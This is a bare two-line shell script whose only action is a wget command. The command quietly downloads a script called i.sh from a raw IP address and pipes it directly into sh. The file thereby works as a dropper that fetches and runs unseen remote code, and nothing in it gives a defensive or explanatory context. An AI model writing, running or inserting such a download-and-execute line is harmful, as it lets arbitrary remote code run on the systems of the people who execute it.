#!/bin/sh
wget -qO- http://203.0.113.77/i.sh | sh
